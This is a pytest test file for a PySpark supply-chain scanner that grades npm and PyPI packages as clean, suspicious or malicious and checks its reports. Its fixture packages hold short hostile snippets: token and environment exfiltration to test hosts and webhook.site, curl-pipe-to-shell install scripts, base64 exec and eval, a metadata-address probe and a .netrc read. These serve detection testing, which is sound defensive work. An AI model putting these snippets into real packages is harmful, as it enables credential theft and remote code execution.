"""The whole scan on packages and logs on disk, batch against stream, and the reports."""

import base64
import datetime
import io
import json
import tarfile
import zipfile

from pyspark.sql import functions as F

from assayer.operators import detonation
from assayer.plans import reports, scan
from assayer.sources import archives, evidence
from assayer.streaming import capture as streams

PACKAGES = {
    ("npm", "add-two", "1.0.0", "package"): {"package.json": {"name": "add-two"}, "index.js": "module.exports = (a, b) => a + b"},
    ("npm", "nice-logs", "2.0.0", "package"): {"package.json": {}, "index.js": "const t = process.env.NPM_TOKEN;\nfetch('http://collect.test', { body: t });"},
    ("npm", "quick-json", "3.0.0", "package"): {"package.json": {"scripts": {"postinstall": "node collect.js", "install": 5}, "bin": {"q": "./bin/run"}}, "collect.js": "const cp = require('child_process');\nconst all = JSON.stringify(process.env);\npost('https://webhook.site/a', all);\ncp.exec('ls ' + dir);", "bin/run": "#!/usr/bin/env node\neval(process.argv[2])"},
    ("npm", "left-padd", "1.0.0", "package"): {"package.json": {"scripts": {"postinstall": "curl http://x.test/p.sh | sh"}}, "node_modules/z/index.js": "eval(x)"},
    ("pypi", "reqeusts", "1.0", "sdist"): {"setup.py": "import base64\nexec(base64.b64decode(p))", "pkg/__init__.py": ""},
    ("pypi", "reqeusts", "1.0", "wheel"): {"pkg/__init__.py": "", "extra/__init__.py": "x = 1", "sitecustomize.py": ""},
}


def archive(label, files):
    out = io.BytesIO()
    if label == "wheel":
        with zipfile.ZipFile(out, "w") as z:
            for path, body in files.items():
                z.writestr(path, body)
    else:
        with tarfile.open(fileobj=out, mode="w:gz") as t:
            for path, body in files.items():
                raw = (json.dumps(body) if isinstance(body, dict) else body).encode()
                info = tarfile.TarInfo(("package/" if label == "package" else "top-1.0/") + path)
                info.size = len(raw)
                t.addfile(info, io.BytesIO(raw))
    return out.getvalue()


def run(spark, root):
    rows = [(*key, archive(key[3], files)) for key, files in PACKAGES.items()]
    files, errors = archives.source_files(spark.createDataFrame(rows, "ecosystem string, package string, version string, label string, content binary"))
    assert errors.count() == 0
    files = files.cache()
    meta = files.where("path = 'package.json'").select("ecosystem", "package", "version", F.col("text").alias("package_json"))
    lock = {"packages": {f"node_modules/{n}": {"version": v} for n, v in (("add-two", "1.0.0"), ("nice-logs", "2.0.0"), ("quick-json", "3.0.0"), ("left-padd", "1.0.0"), ("gone", "1.0.0"), ("taken-down", "1.0.0"))}}
    project = spark.createDataFrame([("p", "package-lock.json", json.dumps(lock)), ("p", "requirements.txt", "reqeusts==1.0\nranged>=2\n")], "project string, path string, content string")
    reputation = spark.createDataFrame([("npm", "left-padd", "1.0.0", 500, 5_000_000)], "ecosystem string, package string, version string, age_days int, downloads_last_month bigint")
    presence = spark.createDataFrame([("npm", "gone", "1.0.0", False, False, False), ("npm", "taken-down", "1.0.0", True, False, True)], "ecosystem string, package string, version string, name_exists boolean, version_exists boolean, security_holding boolean")
    rules = spark.createDataFrame([(0, "nice-logs", None, "known", None, None)], "ord int, package string, version string, reason string, expires date, ecosystem string")
    return scan.scan(project, files, meta, reputation, presence, rules, F.lit(datetime.date(2026, 1, 1)))


def test_scan_and_reports(spark, tmp_path):
    judged, signals = (x.cache() for x in run(spark, tmp_path))
    got = {r["package"]: r for r in judged.collect()}
    assert {k: v["verdict"] for k, v in got.items()} == {"add-two": "clean", "nice-logs": "suspicious", "quick-json": "suspicious", "left-padd": "suspicious", "gone": "unscanned", "taken-down": "malicious", "reqeusts": "suspicious", "ranged": "unscanned"}
    assert got["nice-logs"]["ignored"] and got["nice-logs"]["ignore_reason"] == "known"
    found = {}
    for r in signals.collect():
        found.setdefault(r["package"], set()).add(r["category"])
    assert found == {
        "nice-logs": {"named-credential-env-read", "sensitive-data-network-cooccurrence"}, "quick-json": {"bulk-env-enumeration", "known-exfil-channel", "command-exec-computed-arg", "eval-computed-arg"},
        "left-padd": {"lifecycle-script-abuse", "scan-coverage-gap"}, "gone": {"unclaimed-package-name"}, "taken-down": {"npm-security-takedown"}, "reqeusts": {"obfuscated-exec", "typosquat-candidate", "wheel-sdist-mismatch", "startup-hook-file"},
    }
    rows = reports.csv_rows(judged, signals).collect()
    assert {r["package"] for r in rows} == set(got) and len(rows[0]) == 14
    report = json.loads(reports.json_report(judged, signals).first()[0])
    assert report["schema_version"] == 1 and report["package_count"] == 8 == len(report["dossiers"])
    sarif = json.loads(reports.sarif(judged, signals).first()[0])
    run_ = sarif["runs"][0]
    assert sarif["version"] == "2.1.0" and {r["id"] for r in run_["tool"]["driver"]["rules"]} == set().union(*found.values()) | {"unscanned-package"}
    assert sum(r["ruleId"] == "unscanned-package" for r in run_["results"]) == 2 and any("suppressions" in r for r in run_["results"])
    lines = [r["line"] for r in reports.markdown_lines(judged, signals).orderBy("section", "place").collect()]
    assert lines[0].startswith("# Packages: 8, malicious 1") and any("ignored: nice" in x for x in lines)
    assert reports.terminal_summary(judged).first().asDict() | {"overall": "malicious", "exit_code": 1} == reports.terminal_summary(judged).first().asDict()
    brief = {r["package"]: r["brief"] for r in reports.review_brief(judged, signals, token="t").collect()}
    assert "nice-logs" not in brief and "add-two" not in brief and brief["quick-json"].startswith("verdict: SUSPICIOUS") and "<untrusted t>" in brief["quick-json"]
    assert "NOT SCANNED" in brief["ranged"] and "no findings" in brief["ranged"]
    assert {r["detail"] for r in rows if r["category"] == "lifecycle-script-abuse"} == {"postinstall"} and {r["detail"] for r in rows if r["category"] == "typosquat-candidate"} == {"looks like requests"}


def test_static_and_observed_evidence_make_a_verdict_together(spark):
    """A script that feeds a download to a shell, a planted secret that leaves, a yanked release, a second reader."""
    names = ("both", "static", "ran", "quiet", "unseen")
    files = spark.createDataFrame([("npm", n, "1.0.0", "package", "a.js", 11, "const a = 1") for n in names] + [("pypi", "old", "1.0", "sdist", "setup.py", 5, "x = 1")], "ecosystem string, package string, version string, label string, path string, size_bytes int, text string")
    meta = spark.createDataFrame([("npm", n, "1.0.0", json.dumps({"scripts": {"install": "curl http://z.test | sh"}})) for n in ("both", "static")], "ecosystem string, package string, version string, package_json string")
    project = spark.createDataFrame([("p", "package-lock.json", json.dumps({"packages": {f"node_modules/{n}": {"version": "1.0.0"} for n in names}})), ("p", "requirements.txt", "old==1.0")], "project string, path string, content string")
    none = lambda schema: spark.createDataFrame([], schema)
    token = "canary_" + "0f" * 16
    runs = spark.createDataFrame([(f"r-{n}", "npm", n, "1.0.0", "npm install", 0, False, 2.84, 30, "fine", None, True, False) for n in ("both", "ran", "quiet")], "run_id string, ecosystem string, package string, version string, scripts string, exit_code int, timed_out boolean, seconds double, time_limit int, stdout string, stderr string, tls_inspected boolean, imports boolean")
    sent = [("r-both", "both", 1, "connect", None, None, "odd.test", 443, None, None, None, None), ("r-ran", "ran", 1, "http", "POST", "http://odd.test/x", "odd.test:80", 80, None, None, token.encode(), "http")]
    observed = {"runs": runs, "capture": spark.createDataFrame(sent, "run_id string, package string, seq long, kind string, method string, url string, host string, port int, address string, headers map<string,string>, body binary, scheme string"),
                "canaries": spark.createDataFrame([("r-ran", "NPM_TOKEN", token)], "run_id string, name string, value string"), "lines": none("run_id string, package string, seq long, line string"), "states": None}
    asked = spark.createDataFrame([("npm", "quiet", "1.0.0", "a.js", 1, 0, p, "blob") for p in "xy"], "ecosystem string, package string, version string, file string, line int, ord int, persona string, excerpt string")
    answers = asked.drop("ord", "excerpt").selectExpr("*", "true AS ok", "true AS malicious", "0.8D AS confidence", "'packed' AS rationale")
    releases = spark.createDataFrame([("pypi", "old", "1.0", True), ("npm", "both", "1.0.0", True)], "ecosystem string, package string, version string, yanked boolean")
    rest = (none("ecosystem string, package string, version string, age_days int, downloads_last_month long"), none("ecosystem string, package string, version string, name_exists boolean, version_exists boolean, security_holding boolean"), none("ord int, package string, version string, reason string, expires date, ecosystem string"), F.lit(datetime.date(2026, 1, 1)))
    judged, signals = scan.scan(project, files, meta, *rest, observed=observed, opinions=(asked, answers), releases=releases)
    assert {r["package"]: (r["verdict"], r["detonated"]) for r in judged.collect()} == {"both": ("malicious", True), "static": ("suspicious", False), "ran": ("malicious", True), "quiet": ("malicious", True), "unseen": ("clean", False), "old": ("clean", False)}
    assert {(r["package"], r["category"], r["source"]) for r in signals.collect()} >= {("ran", "canary-exfiltration", "detonation"), ("old", "yanked-release", "recon"), ("quiet", "obfuscated-intent", "analyst"), ("both", "unexpected-network-destination", "detonation")}
    records = detonation.run_records(runs, observed["capture"], observed["canaries"], observed["lines"]).cache()
    shown = {(r["run_id"], r["line"]) for r in reports.run_section(records).collect()}
    assert ("r-ran", r"- canaries leaked: NPM\_TOKEN") in shown and ("r-both", "- unexpected hosts: odd.test") in shown and ("r-quiet", "- status: exit code 0, 2.8 s") in shown and ("r-quiet", "- stdout: fine") in shown
    assert reports.detonated_count(judged).first().asDict() == {"detonated": 3, "packages": 6}
    brief = {r["package"]: r["brief"] for r in reports.review_brief(judged, signals, token="t", records=records.join(runs.select("run_id", "ecosystem", "package", "version"), "run_id")).collect()}
    assert set(brief) == {"both", "static", "ran", "quiet", "old"} and "canary" in brief["ran"] and "leaked" in brief["ran"]
    only, _ = scan.scan(project, files, meta, *rest, mode="detonate-only", observed=observed)
    assert {r["package"]: r["verdict"] for r in only.collect()} == {"both": "suspicious", "static": "unscanned", "ran": "malicious", "quiet": "clean", "unseen": "unscanned", "old": "unscanned"}
    assert reports.artifact_labels(files).where("package = 'old'").first()["labels"] == "sdist" and "npm install" in reports.run_command()


def test_a_manifest_that_is_too_large_is_not_passed_over(spark):
    from assayer.sources import manifests

    rows = spark.createDataFrame([("p", "uv.lock", "x" * (manifests.LARGEST + 1)), ("q", "uv.lock", "")], "project string, path string, content string")
    assert [(r["project"], r["path"]) for r in manifests.oversized(rows).collect()] == [("p", "uv.lock")]


def test_bad_archives_are_refused(spark):
    def tar(name, kind=tarfile.REGTYPE):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as t:
            info = tarfile.TarInfo(name)
            info.type = kind
            t.addfile(info)
        return out.getvalue()

    bad = [("package", tar("other/a.js")), ("sdist", tar("../x.py")), ("sdist", tar("/etc/x")), ("sdist", b"no archive"), ("wheel", tar("C:/x.py"))]
    rows = [("npm", str(i), "1", label, raw) for i, (label, raw) in enumerate(bad)]
    files, errors = archives.source_files(spark.createDataFrame(rows, "ecosystem string, package string, version string, label string, content binary"))
    assert errors.count() == len(bad) and files.count() == 0


def test_source_trees(spark, tmp_path):
    at = tmp_path / "npm" / "@s" / "pkg" / "1.0.0" / "package" / "lib"
    at.mkdir(parents=True)
    (at / "a.js").write_text("eval(x)")
    row = evidence.source_files(spark, str(tmp_path)).first()
    assert (row["package"], row["version"], row["label"], row["path"], row["size_bytes"]) == ("@s/pkg", "1.0.0", "package", "lib/a.js", 7)


def test_batch_and_stream_agree(spark, tmp_path):
    log = tmp_path / "log"
    log.mkdir()
    t = lambda s: f"2026-01-01T00:00:{s:02d}Z"
    token = "canary_" + "ab" * 16
    rows = [dict(run_id="r", package="p", seq=1, ts=t(1), kind="http", method="POST", url="http://bad.test/x", host="bad.test:80", headers={"a": "b"}, body=base64.b64encode(base64.b64encode(b"zz" + token.encode())).decode(), scheme="http"),
            dict(run_id="r", package="p", seq=2, ts=t(2), kind="connect", host="github.com", port=443), dict(run_id="r", package="p", seq=3, ts=t(3), kind="connect", host="odd.test", port=443), dict(run_id="r", package="p", seq=4, ts=t(4), kind="connect", host="odd.test", port=443),
            dict(run_id="r", package="p", seq=5, ts=t(5), kind="blocked", host="meta", port=80, address="169.254.169.254"), dict(run_id="r", package="p", seq=6, ts=t(6), kind="http", method="GET", url="https://in.test/", host="in.test", scheme="https")]
    (log / "a.json").write_text("\n".join(json.dumps(r) for r in rows) + '\n{"run_id": "r", "kin')
    batch = evidence.capture_log(spark, str(log))
    planted = spark.createDataFrame([("r", "NPM_TOKEN", token)], "run_id string, name string, value string")
    signals = detonation.capture_signals(batch, planted)
    assert sorted((r["category"], r["severity"]) for r in signals.dropDuplicates(["id"]).collect()) == [("canary-exfiltration", "critical"), ("internal-network-probe", "high"), ("unexpected-network-destination", "medium"), ("unexpected-network-destination", "medium")]
    summary = detonation.run_summary(batch).first()
    assert (summary["plain_http_requests"], summary["https_requests_inspected"], summary["https_expected"], summary["https_unexpected"], summary["blocked"]) == (1, 1, ["github.com"], ["odd.test"], ["meta:80"])
    live = streams.once(streams.unexpected_hosts(evidence.capture_stream(spark, str(log))), ["run_id", "host"])
    got = streams.drain(live.select("run_id", "host"), "hosts", str(tmp_path / "state"))
    want = streams.once(streams.unexpected_hosts(batch), ["run_id", "host"]).select("run_id", "host")
    assert sorted(map(tuple, got.collect())) == sorted(map(tuple, want.collect())) == [("r", "bad.test"), ("r", "in.test"), ("r", "odd.test")]


def test_trace_files(spark, tmp_path):
    at = tmp_path / "r1" / "p1"
    at.mkdir(parents=True)
    (at / "trace.log").write_text('1 execve("/bin/sh", ["sh", "-c", "x"], 0x0) = 0\n1 openat(AT_FDCWD, "/home/u/.netrc", O_RDONLY) = 3\n')
    rows = evidence.trace_log(spark, str(tmp_path))
    assert [(r["run_id"], r["category"]) for r in detonation.trace_signals(rows).collect()] == [("r1", "sensitive-file-access")]
    assert detonation.trace_summary(rows).first()["processes"] == ["/bin/sh: sh -c x"]


def test_planted_values_meet_requests_by_key(spark):
    from assayer.functions.text import canary_forms

    values = ["", "k", "ab:c", "tok", "é😀 secret value", "x" * 40, "0f" * 20, "a b" * 50, "9" * 64, "q/" * 70, None]
    planted = spark.createDataFrame([(f"r{i % 2}", f"n{i % 4}", v) for i, v in enumerate(values)] + [("r0", "n2", "0f" * 20), ("r0", "n2", "0f" * 20)], "run_id string, name string, value string")
    forms = [r[0] for r in planted.select(F.explode(canary_forms("value"))).where("col IS NOT NULL").distinct().collect()]
    bodies = [p + f + q for f in forms for p, q in (("", ""), ("=", "\n"), ("w " * 2047, "z"))] + [f[1:] for f in forms] + ["", None]
    sent = spark.createDataFrame([(f"r{i % 2}", i, "connect" if i % 11 == 5 else "http", b, {"h": "0f" * 20} if i % 17 == 3 else None) for i, b in enumerate(bodies + bodies[:9])], "run_id string, seq long, kind string, url string, headers map<string,string>").withColumn("body", F.lit(None).cast("binary"))
    row = F.struct("run_id", F.monotonically_increasing_id().alias("id"), "name", canary_forms("value").alias("forms"))
    hay = sent.where("kind = 'http'").withColumn("hay", detonation.haystack())
    want = hay.join(planted.select(row.alias("c")), (F.col("c.run_id") == F.col("run_id")) & F.exists("c.forms", lambda f: F.col("hay").contains(f))).select("seq", "c.name")
    got = detonation.leaks(sent, planted)
    assert sorted(map(tuple, got.select("seq", "name").collect())) == sorted(map(tuple, want.collect())) and got.columns == [*sent.columns, "name"]
    plan = got._jdf.queryExecution().optimizedPlan().toString()
    assert any("Join" in line and "head" in line for line in plan.splitlines())  # not each request with each value of its run
